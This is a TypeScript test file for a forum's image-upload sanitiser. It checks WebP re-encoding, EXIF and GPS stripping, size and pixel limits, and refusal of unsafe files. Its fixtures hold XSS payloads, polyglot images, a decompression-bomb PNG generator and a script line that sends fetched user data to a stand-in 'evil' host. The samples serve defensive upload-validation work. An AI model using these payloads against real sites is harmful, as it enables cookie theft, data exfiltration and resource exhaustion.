/**
 * processImage against real files made with sharp in the test: accepted formats come out as
 * metadata-free WebP of the fixed sizes; names never matter; oversized, non-image, script-carrying
 * and polyglot files are refused or neutralised; decompression bombs stop at the pixel limit
 * (upload validation).
 */
import { crc32, deflateSync } from "node:zlib";
import sharp from "sharp";
import { describe, expect, it } from "vitest";
import { uploads as up } from "../../domain/i18n/sv";
import { ForumError } from "../platform/errors";
import { processImage, processPostImage, UploadError, type UploadStatus } from "./images";
import {
  MAX_INPUT_MEGAPIXELS,
  MAX_POST_IMAGE_BYTES,
  MAX_POST_IMAGE_MB,
  MAX_UPLOAD_BYTES,
  MAX_UPLOAD_MB,
  POST_IMAGE_MAX_SIDE,
} from "../../domain/uploads";

/** A solid-colour image in `format`. */
function solid(format: "png" | "jpeg" | "webp" | "gif", width = 400, height = 300, colour = "#2a6f4e"): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 3, background: colour } })
    .toFormat(format)
    .toBuffer();
}

/** A two-frame animated GIF: first frame red, second blue. */
function animatedGif(): Promise<Buffer> {
  const size = 64;
  const raw = Buffer.alloc(size * size * 2 * 3);
  for (let i = 0; i < size * size; i++) raw[i * 3] = 255;
  for (let i = size * size; i < size * size * 2; i++) raw[i * 3 + 2] = 255;
  return sharp(raw, { raw: { width: size, height: size * 2, channels: 3, pageHeight: size } })
    .gif()
    .toBuffer();
}

/** One PNG chunk (length, type, data, CRC). */
function pngChunk(type: string, data: Buffer): Buffer {
  const head = Buffer.alloc(4);
  head.writeUInt32BE(data.length);
  const typed = Buffer.concat([Buffer.from(type, "latin1"), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(typed));
  return Buffer.concat([head, typed, crc]);
}

const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

/** A complete, valid 1-bit greyscale PNG of `width`×`height`, all black: tiny file, huge image. */
function hugePng(width: number, height: number): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr[8] = 1; // bit depth
  ihdr[9] = 0; // greyscale
  const rows = Buffer.alloc((1 + Math.ceil(width / 8)) * height); // filter byte 0 + zero pixels
  return Buffer.concat([
    PNG_SIGNATURE,
    pngChunk("IHDR", ihdr),
    pngChunk("IDAT", deflateSync(rows, { level: 9 })),
    pngChunk("IEND", Buffer.alloc(0)),
  ]);
}

/** Inserts a chunk right after a PNG's IHDR. */
function withChunk(png: Buffer, chunk: Buffer): Buffer {
  const afterIhdr = 8 + 4 + 4 + 13 + 4;
  return Buffer.concat([png.subarray(0, afterIhdr), chunk, png.subarray(afterIhdr)]);
}

/** Runs processImage expecting an UploadError; returns it. */
async function refusal(bytes: Buffer, kind: "avatar" | "banner" = "avatar"): Promise<UploadError> {
  try {
    await processImage(bytes, kind);
  } catch (error) {
    expect(error).toBeInstanceOf(UploadError);
    return error as UploadError;
  }
  throw new Error("processImage accepterade filen");
}

function expectStatus(error: UploadError, status: UploadStatus, message: string) {
  expect(error.uploadStatus).toBe(status);
  expect(error.status).toBe(status);
  expect(error.message).toBe(message);
  expect(error).toBeInstanceOf(ForumError);
}

/** The output is a clean WebP of the expected size with no metadata at all. */
async function expectCleanWebp(out: Buffer, width: number, height: number) {
  const meta = await sharp(out).metadata();
  expect(meta.format).toBe("webp");
  expect([meta.width, meta.height]).toEqual([width, height]);
  expect(meta.pages ?? 1).toBe(1);
  expect(meta.exif).toBeUndefined();
  expect(meta.icc).toBeUndefined();
  expect(meta.xmp).toBeUndefined();
  expect(meta.iptc).toBeUndefined();
  const text = out.toString("latin1");
  expect(text.startsWith("RIFF")).toBe(true);
  expect(text.slice(8, 12)).toBe("WEBP");
  for (const chunk of ["EXIF", "XMP ", "ICCP", "ANIM"]) expect(text).not.toContain(chunk);
  expect(text.toLowerCase()).not.toContain("<script");
}

/** RGB of the pixel at (x, y). */
async function pixel(image: Buffer, x: number, y: number): Promise<[number, number, number]> {
  const { data, info } = await sharp(image).removeAlpha().raw().toBuffer({ resolveWithObject: true });
  const at = (y * info.width + x) * info.channels;
  return [data[at]!, data[at + 1]!, data[at + 2]!];
}

describe("accepted images", () => {
  it.each(["png", "jpeg", "webp", "gif"] as const)("%s becomes a 256×256 WebP avatar", async (format) => {
    const out = await processImage(await solid(format), "avatar");
    await expectCleanWebp(out, 256, 256);
  });

  it("a banner is cover-cropped to 1500×500", async () => {
    const out = await processImage(await solid("png", 800, 800), "banner");
    await expectCleanWebp(out, 1500, 500);
  });

  it("a JPEG's EXIF (camera, GPS, copyright) is gone from the output", async () => {
    const input = await sharp({ create: { width: 640, height: 480, channels: 3, background: "#c33" } })
      .jpeg()
      .withExif({ IFD0: { Copyright: "Hemlig upphovsman", ImageDescription: "Hemma hos Anna", Make: "Kamera AB" } })
      .toBuffer();
    expect((await sharp(input).metadata()).exif).toBeDefined();
    expect(input.toString("latin1")).toContain("Hemma hos Anna");
    const out = await processImage(input, "avatar");
    await expectCleanWebp(out, 256, 256);
    const text = out.toString("latin1");
    for (const secret of ["Hemlig", "Hemma hos Anna", "Kamera AB"]) expect(text).not.toContain(secret);
  });

  it("the EXIF orientation is applied before the metadata is dropped", async () => {
    // 600×200: left half red, right half blue, tagged "rotate 90° clockwise" (orientation 6).
    const left = await sharp({ create: { width: 300, height: 200, channels: 3, background: "#f00" } }).png().toBuffer();
    const input = await sharp({ create: { width: 600, height: 200, channels: 3, background: "#00f" } })
      .composite([{ input: left, left: 0, top: 0 }])
      .jpeg({ quality: 95 })
      .withMetadata({ orientation: 6 })
      .toBuffer();
    const out = await processImage(input, "banner");
    await expectCleanWebp(out, 1500, 500);
    // Upright it is 200×600 with red on top; the banner's middle band is half red, half blue.
    // (Unrotated it would be red on the left and blue on the right instead.)
    for (const x of [300, 1200]) {
      const [topR, , topB] = await pixel(out, x, 60);
      const [bottomR, , bottomB] = await pixel(out, x, 440);
      expect(topR).toBeGreaterThan(200);
      expect(topB).toBeLessThan(60);
      expect(bottomB).toBeGreaterThan(200);
      expect(bottomR).toBeLessThan(60);
    }
  });

  it("an animated GIF gives its first frame as a still WebP", async () => {
    const gif = await animatedGif();
    expect((await sharp(gif).metadata()).pages).toBe(2);
    const out = await processImage(gif, "avatar");
    await expectCleanWebp(out, 256, 256);
    const [r, g, b] = await pixel(out, 128, 128);
    expect(r).toBeGreaterThan(200);
    expect(g).toBeLessThan(60);
    expect(b).toBeLessThan(60);
  });

  it("is judged by content, not by name: a PNG saved as virus.exe is accepted", async () => {
    const file = new File([new Uint8Array(await solid("png"))], "virus.exe", { type: "application/x-msdownload" });
    const out = await processImage(Buffer.from(await file.arrayBuffer()), "avatar");
    await expectCleanWebp(out, 256, 256);
  });
});

describe("refused files", () => {
  it("a real 20 MB PNG is refused with 413 before decoding", async () => {
    const big = await sharp({
      create: { width: 2600, height: 2600, channels: 3, background: "#000", noise: { type: "gaussian", mean: 128, sigma: 40 } },
    })
      .png({ compressionLevel: 0 })
      .toBuffer();
    expect(big.length).toBeGreaterThan(20 * 1000 * 1000);
    expectStatus(await refusal(big), 413, up.tooLarge(MAX_UPLOAD_MB));
  });

  it("the size cap counts bytes: a 20 MB buffer that is not even an image is 413, not 415", async () => {
    const buffer = Buffer.alloc(20 * 1024 * 1024, 0x41);
    const started = performance.now();
    expectStatus(await refusal(buffer), 413, up.tooLarge(MAX_UPLOAD_MB));
    expect(performance.now() - started).toBeLessThan(200);
    // One byte over the cap is refused; the cap itself is not.
    expectStatus(await refusal(Buffer.alloc(MAX_UPLOAD_BYTES + 1)), 413, up.tooLarge(MAX_UPLOAD_MB));
  });

  it("an empty file is 400", async () => {
    expectStatus(await refusal(Buffer.alloc(0)), 400, up.missingFile);
  });

  it("an SVG with a script is 415 (SVG is never accepted)", async () => {
    const svg = Buffer.from(
      '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">' +
        '<script>alert(document.cookie)</script><rect width="100" height="100" fill="red"/></svg>',
    );
    expectStatus(await refusal(svg), 415, up.unsupportedType);
  });

  it.each([
    ["HTML", "<!doctype html><html><body><script>alert(1)</script></body></html>"],
    ["JavaScript", "fetch('/api/my-data').then(r => r.text()).then(t => navigator.sendBeacon('//evil', t));"],
    ["PDF", "%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF"],
    ["plain text", "Hej! Det här är ingen bild."],
  ])("%s is 415", async (_name, content) => {
    expectStatus(await refusal(Buffer.from(content)), 415, up.unsupportedType);
  });

  it("ZIP and Windows executables are 415", async () => {
    const zip = Buffer.concat([Buffer.from("PK\x03\x04\x14\x00\x00\x00\x08\x00", "latin1"), Buffer.alloc(64)]);
    expectStatus(await refusal(zip), 415, up.unsupportedType);
    const exe = Buffer.alloc(512);
    exe.write("MZ", 0, "latin1");
    exe.writeUInt32LE(0x80, 0x3c);
    exe.write("PE\0\0", 0x80, "latin1");
    expectStatus(await refusal(exe), 415, up.unsupportedType);
  });

  it("other image formats (TIFF, BMP, AVIF) are 415", async () => {
    for (const format of ["tiff", "avif"] as const) {
      const image = await sharp({ create: { width: 32, height: 32, channels: 3, background: "#fff" } }).toFormat(format).toBuffer();
      expectStatus(await refusal(image), 415, up.unsupportedType);
    }
    const bmp = Buffer.alloc(70);
    bmp.write("BM", 0, "latin1");
    bmp.writeUInt32LE(70, 2);
    bmp.writeUInt32LE(54, 10);
    bmp.writeUInt32LE(40, 14);
    expectStatus(await refusal(bmp), 415, up.unsupportedType);
  });

  it("a decompression bomb (20000×20000 PNG of one colour, a few kB) stops at the pixel limit", async () => {
    const bomb = hugePng(20_000, 20_000);
    expect(bomb.length).toBeLessThan(200_000);
    // It really is a valid PNG of that size.
    const meta = await sharp(bomb, { limitInputPixels: false }).metadata();
    expect([meta.format, meta.width, meta.height]).toEqual(["png", 20_000, 20_000]);
    const started = performance.now();
    expectStatus(await refusal(bomb), 413, up.tooManyPixels(MAX_INPUT_MEGAPIXELS));
    expect(performance.now() - started).toBeLessThan(1000);
  });

  it("just over 40 megapixels is refused, just under is accepted", async () => {
    expectStatus(await refusal(hugePng(8000, 5001)), 413, up.tooManyPixels(MAX_INPUT_MEGAPIXELS));
    await expectCleanWebp(await processImage(hugePng(8000, 5000), "banner"), 1500, 500);
  });

  it("a truncated PNG is 400", async () => {
    const png = await sharp({
      create: { width: 400, height: 400, channels: 3, background: "#000", noise: { type: "gaussian", mean: 128, sigma: 40 } },
    })
      .png()
      .toBuffer();
    expectStatus(await refusal(png.subarray(0, Math.floor(png.length / 2))), 400, up.unreadable);
  });
});

describe("polyglots are refused or neutralised", () => {
  /** Either a refusal, or a re-encoded WebP without the payload. */
  async function refusedOrClean(bytes: Buffer, payload: string): Promise<"refused" | "neutralised"> {
    expect(bytes.toString("latin1")).toContain(payload);
    try {
      const out = await processImage(bytes, "avatar");
      await expectCleanWebp(out, 256, 256);
      expect(out.toString("latin1")).not.toContain(payload);
      return "neutralised";
    } catch (error) {
      expect(error).toBeInstanceOf(UploadError);
      expect([400, 415]).toContain((error as UploadError).uploadStatus);
      return "refused";
    }
  }

  it("a GIF with an appended <script> comes out as clean pixels", async () => {
    const gif = Buffer.concat([await solid("gif", 64, 64), Buffer.from("<script>alert(document.cookie)</script>")]);
    expect(await refusedOrClean(gif, "<script>")).toBe("neutralised");
  });

  it("a JPEG with a trailing ZIP archive comes out as clean pixels", async () => {
    const zip = Buffer.concat([
      Buffer.from("PK\x03\x04\x14\x00\x00\x00\x00\x00", "latin1"),
      Buffer.from("evil.html<html><script>alert(1)</script></html>"),
      Buffer.from("PK\x05\x06", "latin1"),
      Buffer.alloc(18),
    ]);
    const jpeg = Buffer.concat([await solid("jpeg", 300, 300), zip]);
    expect(await refusedOrClean(jpeg, "<script>")).toBe("neutralised");
  });

  it("a PNG carrying a script in a text chunk comes out as clean pixels", async () => {
    const text = pngChunk("tEXt", Buffer.from("Comment\0<script>alert(1)</script>", "latin1"));
    const png = withChunk(await solid("png", 120, 120), text);
    expect(await refusedOrClean(png, "<script>")).toBe("neutralised");
  });

  it("HTML behind a GIF signature (GIF89a<html>…) is refused", async () => {
    const fake = Buffer.from("GIF89a<html><body><script>alert(document.domain)</script></body></html>");
    expect(await refusedOrClean(fake, "<script>")).toBe("refused");
  });

  it("an SVG behind a PNG signature is refused", async () => {
    const fake = Buffer.concat([PNG_SIGNATURE, Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')]);
    expect(await refusedOrClean(fake, "<script>")).toBe("refused");
  });
});

/** Runs processPostImage expecting an UploadError; returns it. */
async function postRefusal(bytes: Buffer): Promise<UploadError> {
  try {
    await processPostImage(bytes);
  } catch (error) {
    expect(error).toBeInstanceOf(UploadError);
    return error as UploadError;
  }
  throw new Error("processPostImage accepterade filen");
}

describe("post images (chart screenshots)", () => {
  it.each(["png", "jpeg", "webp", "gif"] as const)("a %s keeps its size and aspect ratio and becomes a clean WebP", async (format) => {
    const out = await processPostImage(await solid(format, 640, 360));
    expect([out.width, out.height]).toEqual([640, 360]);
    await expectCleanWebp(out.webp, 640, 360);
  });

  it("a JPEG with GPS EXIF: the position, camera and every EXIF block are gone", async () => {
    const input = await sharp({ create: { width: 800, height: 600, channels: 3, background: "#c33" } })
      .jpeg()
      .withExif({
        IFD0: { Make: "Kamera AB", ImageDescription: "Hemma hos Anna" },
        IFD3: {
          GPSLatitudeRef: "N",
          GPSLatitude: "59/1 19/1 4632/100",
          GPSLongitudeRef: "E",
          GPSLongitude: "18/1 4/1 1234/100",
          GPSMapDatum: "WGS-84",
        },
      })
      .toBuffer();
    // The input really carries a GPS block.
    const exif = (await sharp(input).metadata()).exif;
    expect(exif?.toString("latin1")).toContain("WGS-84");
    const out = await processPostImage(input);
    await expectCleanWebp(out.webp, 800, 600);
    const text = out.webp.toString("latin1");
    for (const secret of ["WGS-84", "Kamera AB", "Hemma hos Anna", "GPS"]) expect(text).not.toContain(secret);
  });

  it(`the longest side is capped at ${POST_IMAGE_MAX_SIDE} px, keeping the aspect ratio (4000×1000 → 2000×500)`, async () => {
    const wide = await processPostImage(await solid("png", 4000, 1000));
    expect([wide.width, wide.height]).toEqual([2000, 500]);
    await expectCleanWebp(wide.webp, 2000, 500);
    const tall = await processPostImage(await solid("jpeg", 900, 3000));
    expect([tall.width, tall.height]).toEqual([600, 2000]);
  });

  it("a small image is never enlarged", async () => {
    const out = await processPostImage(await solid("png", 120, 80));
    expect([out.width, out.height]).toEqual([120, 80]);
  });

  it("the EXIF orientation is applied: a portrait photo stored sideways comes out upright", async () => {
    const input = await sharp({ create: { width: 600, height: 200, channels: 3, background: "#00f" } })
      .jpeg()
      .withMetadata({ orientation: 6 })
      .toBuffer();
    const out = await processPostImage(input);
    expect([out.width, out.height]).toEqual([200, 600]);
  });

  it("an animated GIF keeps its first frame only", async () => {
    const out = await processPostImage(await animatedGif());
    expect([out.width, out.height]).toEqual([64, 64]);
    await expectCleanWebp(out.webp, 64, 64);
    const [red, , blue] = await pixel(out.webp, 32, 32);
    expect(red).toBeGreaterThan(200);
    expect(blue).toBeLessThan(60);
  });

  it("an SVG is 415", async () => {
    const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script></svg>');
    expectStatus(await postRefusal(svg), 415, up.unsupportedType);
  });

  it("a GIF/JS polyglot and a JPEG with HTML and a ZIP appended keep only their pixels", async () => {
    // GIF89a header whose bytes also start a JavaScript statement, with a script after the image.
    const gif = await solid("gif", 40, 30);
    const jsGif = Buffer.concat([gif, Buffer.from("*/=1;alert(document.cookie);/*<script>alert(1)</script>")]);
    const jpegHtml = Buffer.concat([
      await solid("jpeg", 50, 40),
      Buffer.from("<html><body><script>alert(document.domain)</script></body></html>"),
      Buffer.from("PK\x03\x04polyglot.zip"),
    ]);
    for (const input of [jsGif, jpegHtml]) {
      let out;
      try {
        out = await processPostImage(input);
      } catch (error) {
        // Refusing is fine too; never a 500.
        expect(error).toBeInstanceOf(UploadError);
        continue;
      }
      const text = out.webp.toString("latin1");
      for (const smuggled of ["<script", "alert(", "<html", "PK\x03\x04"]) expect(text).not.toContain(smuggled);
      expect((await sharp(out.webp).metadata()).format).toBe("webp");
    }
  });

  it(`over ${MAX_POST_IMAGE_MB} MB is 413 before anything is decoded; empty is 400`, async () => {
    const big = Buffer.concat([await solid("png"), Buffer.alloc(MAX_POST_IMAGE_BYTES)]);
    expectStatus(await postRefusal(big), 413, up.tooLarge(MAX_POST_IMAGE_MB));
    expectStatus(await postRefusal(Buffer.alloc(0)), 400, up.missingFile);
  });

  it("a decompression bomb stops at the pixel limit (413)", async () => {
    expectStatus(await postRefusal(hugePng(10_000, 10_000)), 413, up.tooManyPixels(MAX_INPUT_MEGAPIXELS));
  });
});
